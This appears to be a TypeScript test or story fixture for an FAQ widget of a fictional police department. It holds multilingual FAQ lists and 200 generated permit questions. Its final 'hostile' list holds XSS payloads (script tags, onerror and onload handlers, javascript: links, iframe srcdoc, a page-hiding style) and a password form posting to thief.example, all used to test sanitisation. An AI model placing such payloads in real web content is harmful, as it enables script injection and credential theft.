// What the made-up city of Rivermark's backend says in stories: its lists in three languages, and other shapes of them.
import type { FaqList, Question } from '../../src/contract/faq.js';
import { ar } from './faqs.ar.js';
import { en } from './faqs.en.js';
import { es } from './faqs.es.js';

export const faqs = { en, es, ar };

/** A backend's index for these lists. */
export const site = {
  contract: '1',
  name: 'Rivermark Police Department',
  languages: ['en', 'es', 'ar'],
  defaultLanguage: 'en',
  timeZone: 'America/Chicago',
  contact: en.contact,
};

/** What a backend that works says. */
export const working = {
  'index.json': { json: site },
  'en/faqs.json': { json: en },
  'es/faqs.json': { json: es },
  'ar/faqs.json': { json: ar },
};

const withoutTopic = ({ topic: _topic, ...question }: Question): Question => question;

/** The same list as a document has it: questions and sub-questions, no topics. */
export const documentShape: FaqList = {
  lang: 'en',
  version: 'story-document',
  questions: en.questions.map(withoutTopic),
  ...(en.contact && { contact: en.contact }),
};

/** Permits of Rivermark, as people ask for them: what it is, what for, and days before that it must be asked for. */
const permits: [id: string, name: string, use: string, days: number][] = [
  ['block-party', 'a block-party permit', 'to close a street for neighbors', 14],
  ['parade', 'a parade permit', 'to walk in the roadway', 30],
  ['run', 'a permit for a run', 'to use streets for a race', 60],
  ['film', 'a film permit', 'to film with more than a hand-held camera', 10],
  ['alarm', 'an alarm permit', 'to have an alarm that calls the police', 5],
  ['fireworks', 'a fireworks permit', 'to light more than sparklers', 30],
  ['loudspeaker', 'a loudspeaker permit', 'to use a loudspeaker outdoors', 7],
  ['market', 'a street-market permit', 'to sell from a stand in the street', 21],
  ['food-cart', 'a food-cart permit', 'to sell food from a cart', 21],
  ['oversize', 'an oversize-load permit', 'to move a load wider than a lane', 3],
  ['dumpster', 'a dumpster permit', 'to stand a container in the street', 3],
  ['moving', 'a moving-van permit', 'to keep a space free for a van', 3],
  ['valet', 'a valet permit', 'to park cars for guests', 14],
  ['taxi', 'a taxi permit', 'to drive people for money', 30],
  ['secondhand', 'a secondhand-dealer permit', 'to buy and sell used goods', 30],
  ['door-to-door', 'a door-to-door permit', 'to sell at people’s doors', 10],
  ['drone', 'a drone permit', 'to start a drone in a park', 10],
  ['boat', 'a boat-landing permit', 'to land with more than twelve people', 7],
  ['escort', 'a funeral-escort permit', 'to lead a funeral through red lights', 2],
  ['lot', 'a private-lot permit', 'to have cars towed from your lot', 14],
];

const asked = (id: string, name: string, use: string, days: number): Question[] =>
  (
    [
      ['who', `Who needs ${name}?`, `Anyone who wants ${use}.`],
      ['how', `How do I apply for ${name}?`, 'Online, or at the permit counter at 240 Levee Street.'],
      ['when', `How early must I apply for ${name}?`, `At least ${days} days before.`],
      [
        'cost',
        `What does ${name} cost?`,
        'The list of fees hangs at the counter; the first one a year is free.',
      ],
      ['proof', `What must I bring for ${name}?`, 'A photo ID of any country, and a sketch of the place.'],
      ['term', `How long is ${name} valid?`, 'For the days that are printed on it.'],
      ['change', `Can I change the date of ${name}?`, 'Once, and without a fee, until two days before.'],
      [
        'refused',
        `What if I am refused ${name}?`,
        'You get the reason in writing, and may appeal in 15 days.',
      ],
      ['show', `Where must I show ${name}?`, 'Where you are, to any officer who asks.'],
      ['money', `Do I get the fee for ${name} back?`, 'Yes, if you cancel before the day.'],
    ] as const
  ).map(([what, question, answer]) => ({
    ...{ id: `${id}-${what}`, topic: id, question, answer: `<p>${answer}</p>` },
    ...{ owner: 'Permit Office', reviewed: '2026-05-04' },
  }));

/** Two hundred questions under twenty topics. */
export const many: FaqList = {
  lang: 'en',
  version: 'story-many',
  topics: permits.map(([id, name]) => ({
    id,
    title: name.replace(/^an? (.)/, (_, first: string) => first.toUpperCase()),
  })),
  questions: permits.flatMap((permit) => asked(...permit)),
  contact: { name: 'Permit Office', phone: '555-0170' },
};

/** Answers as an enemy, or a careless editor, would write them. Each tries to run `ran('…')`, or to break out of its place. */
export const hostile: FaqList = {
  lang: 'en',
  version: 'story-hostile',
  questions: [
    ['script', 'A script', '<p>Words before.</p><script>ran("script")</script><p>Words after.</p>'],
    ['handler', 'A picture with a handler', '<p>A badge: <img src="x:" onerror="ran(\'onerror\')"></p>'],
    ['svg', 'A drawing with a handler', '<p>A map:</p><svg onload="ran(\'onload\')"><text>map</text></svg>'],
    ['link', 'A link that runs', '<p><a href="javascript:ran(\'link\')">Read the policy</a></p>'],
    [
      'frame',
      'A page in the page',
      '<iframe srcdoc="<script>parent.ran(\'frame\')</script>"></iframe><p>Read it there.</p>',
    ],
    [
      'style',
      'A style for the whole page',
      '<style>body{display:none!important}</style><p style="position:fixed;inset:0">Plain words.</p>',
    ],
    ['unclosed', 'A tag that is never closed', '<p>Words in a box <div><b>that stays open'],
    ['surplus', 'Tags that close too much', '<p>Words.</p></div></div></div><h1>Not a title</h1>'],
    [
      'form',
      'A form that asks for a password',
      '<form action="https://thief.example"><input type="password"></form><p>We never ask for one.</p>',
    ],
    ['last', 'The question after them', '<p>It stands in its own place, closed like the others.</p>'],
  ].map(([id, question, answer]) => ({ id: id!, question: question!, answer: answer! })),
};
